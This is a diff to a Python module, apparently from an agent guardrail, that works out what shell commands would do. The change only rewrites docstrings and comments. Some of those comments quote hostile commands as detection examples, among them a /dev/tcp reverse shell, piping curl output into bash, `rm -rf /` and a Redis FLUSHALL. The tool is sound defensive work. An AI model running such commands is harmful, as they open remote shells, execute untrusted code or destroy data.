@@ -1,8 +1,8 @@
-"""Here belongs how calls become effects: the catalogue's rows are bound to a call's words, actions inside of actions
-are read in turn, and what the catalogue lacks is treated by what is generic.
+"""Here belongs how calls become effects: the catalogue's rows are applied to a call's words, inner actions are read in
+turn, and programs that the catalogue lacks are treated by general rules.
 
-Calls are taken in their order, so that a later one knows what an earlier one of the same action made, downloaded or
-copied.
+Calls are interpreted in order, so that a later one knows the files that an earlier one of the same action made,
+downloaded or copied.
 """
 
 from __future__ import annotations
@@ -58,9 +58,9 @@ MAX_DEPTH = 8
 MAX_CALLS = 1_000
 LONGEST_NAME = 60
 MAX_TARGETS = 2_000
-"""Words that rows name as targets, and URLs that requests reach; where they lie has to be worked out for each."""
+"""The most words that rows name as targets and URLs that requests reach; the place of each has to be determined."""
 MAX_INNER_CHARS = 96 * 1024
-"""Characters of inner texts that are read in all: an action may repeat itself inside of itself."""
+"""The most characters of inner texts that are read in total: an action may contain itself."""
 
 SHELLS = frozenset(("sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "busybox"))
 COMMAND_OPTIONS = frozenset(("-c", "-e", "--command", "--exec", "--cmd", "--execute", "--eval", "--shell", "-exec"))
@@ -151,7 +151,7 @@ NAMES_ONLY = frozenset(
         *("dialog", "whiptail", "zenity", "gum", "kdialog", "cowsay", "figlet", "envsubst", "systemd-cat", "xdg-mime"),
     )
 )
-"""Programs that name or look for a file, or say something of it, and don't show what it holds."""
+"""Programs that name, find or test a file and don't show its content."""
 SCRIPT_SUFFIXES = (
     *(".sh", ".bash", ".zsh", ".ksh", ".fish", ".py", ".pl", ".rb", ".js", ".mjs", ".ts", ".php", ".lua", ".ps1"),
     *(".bat", ".cmd", ".vbs", ".run", ".bin", ".appimage", ".out", ".command"),
@@ -162,7 +162,7 @@ REMADE = frozenset(("cache", "caches", "tmp", "temp", "lock", "label", "labels",
 COPIERS = frozenset(("cp", "install", "cmd:copy", "ps:copy-item", "xcopy"))
 PRINTERS_OF_TEXT = frozenset(("findstr", "find", "more", "cmd:type", "cmd:echo", "cmd:more", "ps:get-content", "sort"))
 MONIKERS = ("script:", "scriptlet:", "javascript:", "vbscript:", "ms-its:", "mk:@msitstore:")
-"""How Windows is told that an address is a script to run."""
+"""Prefixes by which Windows treats an address as a script to run."""
 BINARY_SUFFIXES = (".exe", ".dll", ".scr", ".sys", ".cpl", ".ocx")
 DUMPERS = frozenset(
     (
@@ -182,11 +182,11 @@ DUMPERS = frozenset(
         "aws",
     )
 )
-"""Programs whose output is redirected into a file to keep it: what stands there is the copy before."""
+"""Programs whose output people redirect into a file to keep it: an overwritten file is an earlier copy."""
 MAKERS = frozenset(("mkdir", "mktemp", "md", "cmd:md", "cmd:mkdir"))
 MEMBERS_OF_CODE = ("python:", "js:")
 READING_VERBS = (
-    # what cmdlets of these verbs do is agreed: they show, choose and convert
+    # by convention, cmdlets of these verbs show, select or convert
     *("ps:get-", "ps:select-", "ps:where-", "ps:format-", "ps:measure-", "ps:test-", "ps:compare-", "ps:sort-"),
     *("ps:group-", "ps:convertto-", "ps:convertfrom-", "ps:join-", "ps:split-", "ps:resolve-", "ps:find-", "ps:show-"),
     *("ps:write-", "ps:out-string", "ps:out-host", "ps:out-null", "ps:foreach-", "ps:search-", "ps:tee-"),
@@ -197,7 +197,7 @@ CMDLETS = {
     "disable": Effect(EffectKind.DISABLE, ObjectKind.RESOURCE, _NOWHERE, ""),
     "revoke": Effect(EffectKind.REVOKE, ObjectKind.PERMISSION, _NOWHERE, ""),
 }
-"""What cmdlets of these verbs do to whatever their noun names."""
+"""The effects of cmdlets with these verbs on the thing that their noun names."""
 
 
 _SCOPES = {Scope.ONE: 0, Scope.UNKNOWN: 1, Scope.MANY: 2, Scope.ALL: 3}
@@ -219,7 +219,7 @@ _OUTPUT_OPTIONS = frozenset(("-o", "-O", "--output", "--out", "--output-file", "
 _PATTERN_OF_NAME = re.compile(r"[\w.+-]*[?*\[][\w.+?*\[\]-]*")
 _NETWORK = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/([^/\s]+)")
 MAX_NAMES = 64
-"""Programs that a pattern in the place of a name may mean."""
+"""The most programs that a pattern in place of a name may match."""
 _URL = re.compile(r"\w+://[^\s'\"`)]+")
 _DOT_COMMAND = re.compile(
     r"\s*\.(?:(?:shell|system)\s+(.+)|(?:output|once|excel|log)\s+(?:-\S+\s+)*(\S+)\s*$)", re.DOTALL
@@ -232,8 +232,8 @@ _CARES = frozenset((Sensitivity.SECRET, Sensitivity.PERSONAL))
 
 @record
 class Interpretation:
-    """What the calls of a reading would do. `calls` has those of inner actions too, `passages` the inner texts that
-    people would read."""
+    """The effects of a reading's calls. `calls` includes those of inner actions, `passages` the inner texts that people
+    would read."""
 
     effects: tuple[Effect, ...]
     uncovered: tuple[Uncovered, ...]
@@ -244,7 +244,7 @@ class Interpretation:
 
 @record
 class _Frame:
-    """What an inner action inherits. `carrier` is the span of the text that it stands in."""
+    """The properties that an inner action inherits. `carrier` is the span of the text that contains it."""
 
     depth: int = 0
     host: str | None = None
@@ -263,14 +263,14 @@ class _Saved(NamedTuple):
 
 @record
 class _Fed:
-    """What comes out of a pipe: the care that it deserves, and the URLs that it was downloaded from."""
+    """The input from a pipe: the care that it deserves, and the URLs that it was downloaded from."""
 
     care: Care | None = None
     urls: tuple[str, ...] = ()
 
 
 def interpret(reading: Reading, catalogue: Catalogue, facts: Facts) -> Interpretation:
-    """The effects of a reading, with what stays uncovered."""
+    """Returns the effects of a reading and its uncovered parts."""
     work = _Interpreter(catalogue, facts)
     work.read(reading, _Frame())
     return Interpretation(
@@ -303,23 +303,23 @@ class _Interpreter:
         self.targets = 0
         self.effects_of: dict[int, tuple[Call, list[Effect]]] = {}
         self.own: set[str] = set()
-        self.on_orphan = False  # an earlier call began a branch without history, of which nothing is committed yet
-        self.made_branches: set[str] = set()  # names that an earlier call of the action gave to a branch of its own
-        self.has_staged = False  # an earlier call of the action put what is new into the index of git
-        self.saved: _Saved | None = None  # where the call before put all changes into a commit or a stash
+        self.on_orphan = False  # an earlier call began a branch without history, and nothing is committed on it yet
+        self.made_branches: set[str] = set()  # names of branches that an earlier call of the action created
+        self.has_staged = False  # an earlier call of the action staged new files in git
+        self.saved: _Saved | None = None  # where the previous call put all changes into a commit or a stash
         self.downloaded: dict[str, str] = {}
         self.mounts: dict[str, tuple[tuple[str, str], ...]] = {}
         self.copied: dict[str, Care] = {}
         self.with_environment: set[str] = set()  # files to which an earlier call wrote variables with secrets
-        self.disguised: dict[str, str] = {}  # copies of programs of the system, and what they are
+        self.disguised: dict[str, str] = {}  # paths of copied system programs, with the original's name
         self.made_keys: set[str] = set()
-        self.connection: str | None = None  # that the shell has opened under a descriptor
+        self.connection: str | None = None  # the address of a connection that the shell opened under a descriptor
         self.judges_origin = facts.user_request is not None or bool(facts.untrusted_content)
 
     # Readings and calls
 
     def read(self, reading: Reading, frame: _Frame) -> None:
-        """Takes a reading in, as the whole action or as an action inside of one."""
+        """Adds a reading, either of the whole action or of an action inside it."""
         carrier = frame.carrier
         for effect in reading.effects:
             effect = self._in_frame(effect, frame)
@@ -337,7 +337,7 @@ class _Interpreter:
             self.call(call, frame)
 
     def _in_frame(self, effect: Effect, frame: _Frame) -> Effect:
-        """A reader's own effect, with the place and care of its paths."""
+        """Completes a reader's own effect with the place and care of its paths."""
         thing = effect.object
         targets = tuple(
             self._located(target, effect, frame)
@@ -361,7 +361,8 @@ class _Interpreter:
         return replace(found, origin=target.origin) if target.origin is not Origin.UNKNOWN else found
 
     def _placed(self, place: Place, thing: ObjectKind) -> Place:
-        """Returns what is remote, or data of nobody knows where, is production if the facts say so."""
+        """Returns production for a remote place, or for an unknown place that is not a path, if the environment is
+        production."""
         if self.facts.environment is Environment.PRODUCTION and (
             place is Place.REMOTE or (place is Place.UNKNOWN and thing is not ObjectKind.PATH)
         ):
@@ -369,7 +370,7 @@ class _Interpreter:
         return place
 
     def call(self, original: Call, frame: _Frame) -> None:
-        """The effects of one call and of the actions inside it."""
+        """Adds the effects of one call and of the actions inside it."""
         if frame.depth > MAX_DEPTH:
             reason = "actions inside of actions, too deep to follow"
             self.uncovered.append(Uncovered(frame.carrier or original.span, reason, stopped=True))
@@ -413,7 +414,7 @@ class _Interpreter:
         self.covered_calls += 1
         call = _in_named_directory(call)
         if call.path.startswith("!") and call.program in SHELLS:
-            self._interactive_shell(call)  # typed into the program of the line before
+            self._interactive_shell(call)  # typed into the program of the previous line
             return
         parsed = parse(program, call)
         if parsed.without_effect():
@@ -463,14 +464,14 @@ class _Interpreter:
                 self._interactive_shell(call)
 
     def _hidden_streams(self, call: Call) -> None:
-        """A stream behind a file is used to hide something, whatever program it is given to."""
+        """Adds a write for each alternate data stream: streams are used to hide something, whatever the program."""
         for word in call.words:
             if ":" in word.text[2:] and is_hidden_stream(word.text):
                 target = self._target(word, EffectKind.WRITE, ObjectKind.PATH, call)
                 self._generic_effect(EffectKind.WRITE, ObjectKind.PATH, (target,), call, {}, True)
 
     def _undisguised(self, call: Call) -> Call:
-        """The call as one of the program that an earlier call copied under this name."""
+        """Returns the call with the original program if an earlier call copied that program to this name."""
         path = located(call.path or call.program, self.facts, _directory(call))
         name = self.disguised.get(path) or self.disguised.get(f"{path}.exe")
         if name is None:
@@ -481,7 +482,8 @@ class _Interpreter:
         return replace(call, program=name)
 
     def _entry(self, name: str) -> Program | None:
-        """The program's entry; a version behind the name and what names only the shell are taken away."""
+        """Returns the program's catalogue entry, also for a name with a version or with a suffix or prefix of the
+        shell."""
         catalogue = self.catalogue
         found = catalogue.program(name)
         if found is not None:
@@ -504,7 +506,8 @@ class _Interpreter:
         return catalogue.program(shorter) if shorter and shorter != name else None
 
     def _by_pattern(self, call: Call, frame: _Frame) -> bool:
-        """A name that the shell completes from what is installed, such as `/bin/r?`: each program that it may be."""
+        """Follows a name that the shell completes from installed programs, such as `/bin/r?`, as each program that it
+        may match."""
         if not call.path.startswith("/") or frame.depth > 1 or _PATTERN_OF_NAME.fullmatch(call.program) is None:
             return False
         names = [name for name in fnmatch.filter(self.catalogue, call.program) if ":" not in name]
@@ -513,9 +516,9 @@ class _Interpreter:
         return bool(names)
 
     def _unstated(self, call: Call, harmless: bool) -> None:
-        """A program shows the secrets in a file that it is given, if only as an error. If it does more than to show
-        something, that holds for what lies outside of the work and what its entry says nothing of. It writes what an
-        option for results names."""
+        """Adds effects on operands that the program's entry does not mention. Any program shows secrets in a file that
+        it is given, if only in an error message; for a program that does more than show, this counts only outside of
+        the workspace. A file named by an option for results is written."""
         directory = _directory(call)
         stated: set[str] | None = None
         for at, word in enumerate(call.words):
@@ -540,7 +543,7 @@ class _Interpreter:
             self._generic_effect(EffectKind.READ, ObjectKind.PATH, (target,), call, {}, True)
 
     def _is_unstated_output(self, call: Call, at: int, text: str) -> bool:
-        """Decides whether an option that is named as those for a result names a file on which the system rests."""
+        """Decides whether an option for results names a file that the system depends on."""
         before = call.words[at - 1].text if at else ""
         if consequence_of_write(text) is None:
             return False
@@ -573,7 +576,7 @@ class _Interpreter:
             if not (row.object is ObjectKind.PATH and row.kind in _WRITES and is_nowhere(word.text))
         ]
         if row.object is ObjectKind.PATH and row.targets and not words and not fed:
-            return  # nothing is named, so nothing is touched
+            return  # no path is named, so none is touched
         if fed and row.kind is EffectKind.SEND and call.program in _HTTP_CLIENTS and _dumps_database(call.stdin):
             url = self._detail(row, parsed).get("url", "")
             self._add(
@@ -591,7 +594,7 @@ class _Interpreter:
         words = self._followed([found for word in words for found in self._searched(word)], call)
         named = [word for word in words if not word.glob]
         if row.object is ObjectKind.PATH and named and len(named) < len(words) and not _is_broadened(row, parsed):
-            # A pattern beside a name does not make the name stand for many.
+            # A pattern next to a name does not make the named path count as many.
             self._effect_of_row(row, parsed, call, named, fed)
             self._effect_of_row(row, parsed, call, [word for word in words if word.glob], [])
         else:
@@ -627,7 +630,7 @@ class _Interpreter:
             effect = self._executed(effect, call)
             if detail.get("code") == "named_file" and call.program not in SHELLS and call.program != "source":
                 shown = tuple(target for target in effect.targets if target.sensitivity in _CARES)
-                if shown:  # what is no program is shown in the error
+                if shown:  # the error message shows content that is not a program
                     self._generic_effect(EffectKind.READ, ObjectKind.PATH, shown, call, {}, True)
         elif self.has_staged and row.kind is EffectKind.DISCARD and effect.source == "git reset":
             effect = replace(effect, detail={**detail, "staged": "yes"})
@@ -652,7 +655,8 @@ class _Interpreter:
             self._of_the_registry(effect)
 
     def _searched(self, word: Word) -> Sequence[Word]:
-        """The word, or what a search yields if it is nothing else: `rm $(find / -name x)`."""
+        """Returns the paths that a search yields if the word is nothing else, `rm $(find / -name x)`; otherwise the
+        word."""
         command = _substitution(word.text) if not word.known and "find " in word.text[:8] else None
         calls = read_as(command, "bash", self.facts, self.catalogue).calls if command is not None else ()
         program = self._entry("find")
@@ -663,7 +667,7 @@ class _Interpreter:
         return _found_by_search(parse(program, calls[0]))
 
     def _followed(self, words: list[Word], call: Call) -> list[Word]:
-        """The words that are looked at as targets, up to a bound for the whole action."""
+        """Returns the words that are treated as targets, up to a bound for the whole action."""
         left = MAX_TARGETS - self.targets
         self.targets += len(words)
         if len(words) > left:
@@ -674,7 +678,7 @@ class _Interpreter:
     def _scope(self, row: EffectRow, parsed: Parsed, call: Call, words: Sequence[Word]) -> Scope:
         scope = row.scope
         if scope is None:
-            several = len(words) > 1 and row.object is not ObjectKind.PATH  # paths that are named one by one
+            several = len(words) > 1 and row.object is not ObjectKind.PATH  # listed paths don't count as many
             scope = Scope.MANY if several or any(word.glob for word in words) else Scope.ONE
         elif scope is Scope.ONE and row.object is ObjectKind.ROWS and any(_is_fed(word) for word in words):
             scope = Scope.MANY
@@ -693,7 +697,8 @@ class _Interpreter:
     def _if_empty(
         self, words: Sequence[Word], targets: list[Target], scope: Scope, call: Call
     ) -> tuple[list[Target], Scope]:
-        """An unset variable in a path may be empty: what is then reached counts if it is a whole place."""
+        """Returns targets and scope for the case that an unset variable in a path is empty, if that reaches a whole
+        place."""
         directory = _directory(call)
         for at, word in enumerate(words):
             if not word.if_empty or (scope is Scope.ONE and not word.glob):
@@ -722,7 +727,7 @@ class _Interpreter:
         return detail
 
     def _names_production(self, parsed: Parsed) -> bool:
-        """Whether the call names production itself, as a context, a namespace or in the name of what it reaches."""
+        """Decides whether the call names production, as a context, a namespace or in the name of a target."""
         if self.facts.environment is Environment.PRODUCTION:
             return True
         values = [option.value for option in parsed.options if option.value is not None]
@@ -733,7 +738,7 @@ class _Interpreter:
         )
 
     def _request(self, request: Request, parsed: Parsed, call: Call, frame: _Frame) -> None:
-        """The effects of the HTTP requests that a call makes."""
+        """Adds the effects of the HTTP requests that a call makes."""
         from guardrail.catalogue.http import effects_of_request
 
         methods = [word.text for part in request.method for word in parsed.part(part)]
@@ -753,7 +758,8 @@ class _Interpreter:
                 self._add(self._in_frame(replace(effect, source=call.program, sure=call.sure), frame))
 
     def _sent_words(self, words: Sequence[Word], urls: Sequence[str], call: Call) -> None:
-        """Returns what a request sends that a substitution reads from a sensitive file, or that a variable holds."""
+        """Adds the sending of secrets that a request takes from a sensitive file by a substitution, or from a
+        variable."""
         hosts = [host for host in map(host_of, urls) if host and not is_local_host(host)]
         targets: list[Target] = []
         for word in words:
@@ -802,7 +808,8 @@ class _Interpreter:
         return Target(text, place, sensitivity, origin, path)
 
     def _care(self, word: Word, directory: str | None) -> Care:
-        """The care that a word's path deserves: its own, of what was copied there, or of what a substitution prints."""
+        """Returns the care that a word's path deserves: its own, that of a file copied there, or that of a
+        substitution's output."""
         text = word.text
         computed = not word.known and any(mark in text for mark in ("$(", "`", "<("))
         if (word.glob or not word.known) and environment.holds_everything(text):
@@ -815,7 +822,7 @@ class _Interpreter:
         if self.copied and care.sensitivity not in _CARES:
             care = self.copied.get(located(text, self.facts, directory), care)
         if "mktemp" in text and computed:
-            return care  # a name that nothing has yet
+            return care  # a new file without content
         if computed and care.sensitivity is Sensitivity.NONE and not text.startswith(PUBLIC_CERTIFICATES):
             found = [care_of(piece) for piece in _pieces(text)]
             cares = [known for known in found if known.sensitivity is not Sensitivity.NONE]
@@ -823,7 +830,7 @@ class _Interpreter:
         return care
 
     def _on_host(self, place: Place, call: Call) -> Place:
-        """A place as it is on another machine: there is no workspace of ours."""
+        """Returns the place as seen on another machine, which has no workspace of ours."""
         if call.host is not None and call.host.startswith("container:") and place in (Place.SYSTEM, Place.HOME):
             return Place.UNKNOWN
         if call.host is None or place in (Place.SYSTEM, Place.HOME, Place.TEMPORARY):
@@ -835,7 +842,8 @@ class _Interpreter:
         )
 
     def _in_new_container(self, text: str, call: Call) -> Place | None:
-        """A place in a container that the call makes: where it lies here if it is mounted, else it goes with it."""
+        """Returns the place of a path in a container that the action makes: on this machine if the path is mounted;
+        otherwise temporary, since it disappears with the container."""
         mounts = self.mounts.get(call.host) if call.host is not None else None
         if mounts is None:
             return None
@@ -843,10 +851,10 @@ class _Interpreter:
         for inside, outside in mounts:
             if path == inside or path.startswith((f"{inside}/", f"{inside}*")) or inside == "/":
                 if not outside.startswith(("/", "~", ".", "$", "`")):
-                    return Place.UNKNOWN  # a volume by its name
+                    return Place.UNKNOWN  # a named volume
                 return place_of(outside + path[len(inside.rstrip("/")) :], self.facts)
             if inside.startswith(f"{path.rstrip('/*')}/"):
-                return Place.UNKNOWN  # a mount lies in it
+                return Place.UNKNOWN  # the path contains a mount
         return Place.TEMPORARY if path.startswith("/") else None
 
     def _is_own(self, text: str, directory: str | None) -> bool:
@@ -854,7 +862,7 @@ class _Interpreter:
         return bool(self.own) and any(known in self.own for known in (path, *_parents(path)))
 
     def _fed_target(self, call: Call, kind: EffectKind) -> Target:
-        """Returns what a pipe brings, as a target: it deserves the care of what was read into it."""
+        """Returns the piped input as a target that deserves the care of its sources."""
         fed = self._fed(call.stdin)
         sensitivity = fed.care.sensitivity if fed.care is not None else Sensitivity.NONE
         if kind is EffectKind.SEND:
@@ -889,12 +897,12 @@ class _Interpreter:
     # What follows from an effect
 
     def _add(self, effect: Effect) -> None:
-        """Takes an effect in, once for the same words."""
+        """Adds an effect, only once for the same words."""
         if effect not in self.effects[-8:]:
             self.effects.append(effect)
 
     def _consequences(self, effect: Effect, directory: str | None, call: Call | None = None) -> None:
-        """A write to some paths does more than write: it persists, grants, or changes the guard."""
+        """Adds the further effects of a write to certain paths: persisting, granting, or changing the guard."""
         for target in effect.targets:
             if target.place in (Place.REMOTE, Place.PRODUCTION):
                 continue
@@ -923,7 +931,8 @@ class _Interpreter:
                 )
 
     def _of_the_guard(self, effect: Effect, call: Call) -> None:
-        """To delete, move or lock away a file of the guard turns it off as surely as a write does."""
+        """Adds a change of the guard if one of its files is deleted, moved or locked, which turns it off as surely as a
+        write."""
         if call.program == "chmod" and any(_KEEPS_RIGHTS.fullmatch(word.text) for word in call.words):
             return
         directory = _directory(call)
@@ -935,20 +944,20 @@ class _Interpreter:
                 self._add(replace(changed, detail={"says": "takes away what checks or steers the agent"}))
 
     def _of_hooks(self, effect: Effect) -> None:
-        """To delete a hook of git switches off what it checks."""
+        """Adds that a check is disabled if a hook of git is deleted."""
         hooks = tuple(replace(target, place=Place.UNKNOWN) for target in effect.targets if _HOOK.search(target.text))
         if hooks:
             self._add(replace(effect, kind=EffectKind.DISABLE, object=ObjectKind.REPOSITORY, targets=hooks))
 
     def _of_records(self, effect: Effect) -> None:
-        """To delete the record of what happened is to switch a log off."""
+        """Adds that a log is disabled if its records are deleted."""
         targets = tuple(target for target in effect.targets if is_record(target.located))
         if targets:
             changed = replace(effect, kind=EffectKind.DISABLE, object=ObjectKind.SERVICE, targets=targets)
             self._add(replace(changed, detail={"says": "removes the record of what happened"}))
 
     def _of_the_registry(self, effect: Effect) -> None:
-        """A key may start programs, hold up a defence or keep passwords."""
+        """Adds the effects of registry keys that start programs, maintain a defence or contain passwords."""
         value, data = effect.detail.get("value", ""), effect.detail.get("data", "")
         for target in effect.targets:
             meaning: KeyMeaning | None
@@ -965,7 +974,7 @@ class _Interpreter:
                 self._add(replace(changed, detail={"says": meaning.reason}))
 
     def _executed(self, effect: Effect, call: Call) -> Effect:
-        """Code that the same action downloaded, or that comes out of a pipe from afar, is remote code."""
+        """Marks code that the same action downloaded, or that a pipe brings from another machine, as remote code."""
         if effect.detail.get("code") == "named_file" and call.program not in SHELLS:
             names = [target.text for target in effect.targets]
             if any("/bin/" in name and posixpath.basename(name) in SHELLS for name in names):
@@ -988,7 +997,7 @@ class _Interpreter:
         return effect
 
     def _remember(self, call: Call, effects: Iterable[Effect]) -> None:
-        """Returns what later calls have to know: what this one made, downloaded or copied."""
+        """Records for later calls the files that this one made, downloaded or copied."""
         directory = _directory(call)
         made: list[str] = []
         urls: list[str] = []
@@ -997,7 +1006,7 @@ class _Interpreter:
             if effect.kind is EffectKind.DOWNLOAD:
                 urls += [target.text for target in effect.targets]
             elif effect.kind is EffectKind.CREATE and effect.object is ObjectKind.CREDENTIAL:
-                # A key that the action makes is nobody's secret yet.
+                # A key that the action itself makes is not yet anyone's secret.
                 own = [target for target in effect.targets if target.place in (Place.WORKSPACE, Place.TEMPORARY)]
                 self.made_keys.update(located(target.text, self.facts, directory) for target in own)
             elif effect.kind in _MAKES and effect.object is ObjectKind.PATH:
@@ -1027,7 +1036,7 @@ class _Interpreter:
             self.with_environment.update(made)
 
     def _disguise(self, copy: str, effects: Iterable[Effect]) -> None:
-        """A program of the system that is copied under another name is still that program."""
+        """Records a copy of a system program under another name, since it is still that program."""
         for effect in effects:
             if effect.kind is EffectKind.READ:
                 for target in effect.targets:
@@ -1036,7 +1045,8 @@ class _Interpreter:
                         self.disguised[copy] = name
 
     def _own(self, paths: Iterable[str], effect: Effect, call: Call) -> None:
-        """A path that the action itself makes is its own to delete, unless it may have been there (`mkdir -p ~/x`)."""
+        """Records paths that the action itself makes and so may delete, unless they may have existed before
+        (`mkdir -p ~/x`)."""
         may_exist = any(word.text in ("-p", "--parents") for word in call.words)
         for path, target in zip(paths, effect.targets, strict=True):
             if not (may_exist and target.place in (Place.HOME, Place.SYSTEM, Place.UNKNOWN)):
@@ -1084,12 +1094,12 @@ class _Interpreter:
                 self._generic_effect(EffectKind.DISRUPT, ObjectKind.DEVICE, target, call, {}, True)
 
     def _connection(self, url: str, call: Call, effects: Sequence[Effect]) -> None:
-        """The shell opens a connection as if it were a file: `bash -i >& /dev/tcp/host/port`."""
+        """Adds the effects of a connection that the shell opens like a file: `bash -i >& /dev/tcp/host/port`."""
         if call.program in SHELLS:
             self._network_shell(url, call)
             return
         if call.program == ":":
-            self.connection = url  # for those that come after: `exec 5<>/dev/tcp/host/port; sh <&5 >&5`
+            self.connection = url  # for later calls: `exec 5<>/dev/tcp/host/port; sh <&5 >&5`
         fed = self._fed(call.stdin).care
         read = [target for effect in effects if effect.kind is EffectKind.READ for target in effect.targets]
         targets = tuple(target for target in read if target.sensitivity in _CARES)
@@ -1130,20 +1140,20 @@ class _Interpreter:
                 if inner.append_found and words and not any("{" in word.text for word in words):
                     words = (*words, Word("{}", parsed.call.span))
                 if inner.until and any("{}" in word.text for word in words):
-                    # A search puts its finds there. Wrappers such as `docker exec` pass the braces on.
+                    # A search inserts the paths found there. Wrappers such as `docker exec` pass the braces on.
                     words = _replaced(words, "{}", _found_by_search(parsed))
                 self._command(words, call, deeper)
             else:
                 self._text(" ".join(word.text for word in words), inner.language, call, deeper)
 
     def _command(self, words: Sequence[Word], call: Call, frame: _Frame) -> None:
-        """Words that are a command: `sudo rm x`, `xargs rm`."""
+        """Adds the effects of words that are a command: `sudo rm x`, `xargs rm`."""
         first = words[0]
         if len(words) == 1 and first.known and any(char in first.text for char in " ;|&\n"):
             self._text(first.text, "bash", call, frame)
             return
         if first.known and " " in first.text and self._is_command_line(first.text):
-            # `parallel 'rm -rf {}' ::: a b`: a line for a shell, and what is put in.
+            # `parallel 'rm -rf {}' ::: a b`: a line for a shell, and the values to insert.
             rest = [word.text for word in words[1:] if not word.text.startswith(":::")]
             self._text(" ".join((first.text, *map(quote, rest))), "bash", call, frame)
             return
@@ -1159,7 +1169,8 @@ class _Interpreter:
         self.call(inner, frame)
 
     def _words_of_pipe(self, parsed: Parsed, call: Call) -> list[Word]:
-        """The operands that `xargs` adds: words of constant text, what a search finds, or nobody knows what."""
+        """Returns the operands that `xargs` adds: the words of a constant text, the paths that a search finds, or one
+        unknown word."""
         source = call.stdin
         if (
             any(redirection.operator == "<" for redirection in call.redirections)
@@ -1184,13 +1195,13 @@ class _Interpreter:
         return [Word("$(stdin)", call.span, known=False)]
 
     def _text(self, text: str, language: str, call: Call, frame: _Frame) -> None:
-        """A text that is an action: `bash -c '…'`, `python -c '…'`."""
+        """Adds the effects of a text that is an action: `bash -c '…'`, `python -c '…'`."""
         code = _substitution(text)
         if code is not None:
             self._printed_code(code, language, call, frame)
             return
         if language == "sql" and text.lstrip().startswith(".") and (command := _DOT_COMMAND.match(text)):
-            # The shell of sqlite3 has commands of its own.
+            # The shell of sqlite3 has its own commands.
             run, file = command.groups()
             text, language = run or f": > {file}", "bash"
         self.inner_chars += len(text)
@@ -1208,7 +1219,7 @@ class _Interpreter:
         self.read(read_as(text, language, self.facts, self.catalogue), frame)
 
     def _foreign(self, code: str, call: Call) -> None:
-        """Returns what code in a language that nobody here reads does by what stands in its quotes."""
+        """Adds the effects of quoted commands and paths in code of a language without a reader."""
         frame = _Frame(depth=MAX_DEPTH - 1, host=call.host, elevated=call.elevated, sure=call.sure, carrier=call.span)
         if runs_what_it_receives(code):
             self._network_shell(call.program, call)
@@ -1240,7 +1251,7 @@ class _Interpreter:
                 self._consequences(effect, _directory(call))
 
     def _printed_code(self, command: str, language: str, call: Call, frame: _Frame) -> None:
-        """Code that a command prints: `bash -c "$(curl …)"`, `eval "$(ssh-agent)"`."""
+        """Adds the effects of code that a command prints: `bash -c "$(curl …)"`, `eval "$(ssh-agent)"`."""
         reading = read_as(command, "bash", self.facts, self.catalogue)
         output = constant_output(reading.calls[-1]) if reading.calls else None
         if output is not None:
@@ -1258,7 +1269,7 @@ class _Interpreter:
             self.uncovered.append(Uncovered(call.span, "code that another program prints"))
 
     def _fed_code(self, language: str, call: Call, frame: _Frame) -> None:
-        """Code that a pipe, a here-document or a file brings."""
+        """Adds the effects of code from a pipe, a here-document or a file."""
         source = call.stdin
         if source is None:
             for redirection in call.redirections:
@@ -1289,7 +1300,7 @@ class _Interpreter:
         self.uncovered.append(Uncovered(call.span, f"what {call.program} gets from a pipe"))
 
     def _lines(self, text: str, call: Call, frame: _Frame) -> None:
-        """Each line is a call of the same program: `redis-cli <<< 'FLUSHALL'`."""
+        """Adds the effects of each line as a call of the same program: `redis-cli <<< 'FLUSHALL'`."""
         for line in text.splitlines():
             words = tuple(Word(word.strip("'\""), call.span) for word in line.split())
             if words:
@@ -1311,7 +1322,7 @@ class _Interpreter:
         )
 
     def _interactive_shell(self, call: Call) -> None:
-        """A shell without a command that another program starts: what is typed there, no check sees."""
+        """Adds a shell that another program starts without a command: no check sees the commands typed there."""
         host = call.host or ""
         inside = host.startswith(("container:", "pod:", "image:"))
         self._add(
@@ -1328,10 +1339,10 @@ class _Interpreter:
         )
 
     def _shells_in_options(self, call: Call, frame: _Frame) -> None:
-        """Many programs run a command that an option names: `tar -I '/bin/sh -c …'`, `lftp -c '!/bin/sh'`."""
+        """Adds the shells that programs start for an option's value: `tar -I '/bin/sh -c …'`, `lftp -c '!/bin/sh'`."""
         for at, word in enumerate(call.words):
             if "/" not in word.text:
-                continue  # no path to a shell
+                continue  # not a path to a shell
             if word.known and "/bin/" in word.text and starts_shell(word.text):
                 if at == 0 or call.words[at - 1].text not in TEXT_OPTIONS:
                     self._interactive_shell(call)
@@ -1354,7 +1365,7 @@ class _Interpreter:
     # What the catalogue lacks
 
     def _computed(self, call: Call, frame: _Frame) -> None:
-        """A program whose name the action computes."""
+        """Adds the effects of a program whose name the action computes."""
         output = constant_output(call.stdin) if call.stdin is not None else None
         if output is not None and len(call.words) == 1:
             self._text(output, "bash", call, replace(frame, depth=frame.depth + 1, carrier=call.span))
@@ -1369,7 +1380,8 @@ class _Interpreter:
         self.uncovered.append(Uncovered(call.span, "a program whose name is computed"))
 
     def _unknown(self, call: Call, frame: _Frame) -> None:
-        """A program that the catalogue lacks: a script by its path, or something by its operands."""
+        """Adds the effects of a program that the catalogue lacks: of a script by its path, of others by their
+        operands."""
         path = call.path
         name = call.program
         if path or (name.endswith(SCRIPT_SUFFIXES) and ":" not in name):
@@ -1406,14 +1418,14 @@ class _Interpreter:
         self.uncovered.append(Uncovered(call.span, f"the catalogue lacks {_shortened(name)}", executable=executable))
 
     def _break_in(self, call: Call) -> None:
-        """A tool that is made to break in is known by its name, also as a function that a script defines."""
+        """Adds an effect for an attack tool, recognised by its name, also as a function that a script defines."""
         named = next((text for text in (call.program, *(word.text for word in call.words)) if is_break_in(text)), None)
         if named is not None:
             target = Target(named[:LONGEST_NAME])
             self._generic_effect(EffectKind.EXECUTE, ObjectKind.PROCESS, (target,), call, {"code": "named_file"}, True)
 
     def _carried(self, call: Call, frame: _Frame) -> None:
-        """A known program with options or a path behind words that nobody knows: `run rm -rf / on the server`."""
+        """Follows a known program with options or a path after unknown words: `run rm -rf / on the server`."""
         for at, (word, following) in enumerate(zip(call.words[:CARRIED], call.words[1:], strict=False)):
             name = word.text.lower()
             if not word.known or name.startswith("-"):
@@ -1424,7 +1436,8 @@ class _Interpreter:
                 return
 
     def _generic(self, call: Call, frame: _Frame) -> None:
-        """Tells what holds for any program: sensitive paths are read, URLs are reached, a shell in an operand runs."""
+        """Adds the effects that any program may have: it reads sensitive paths, reaches URLs, runs a shell in an
+        operand."""
         directory = _directory(call)
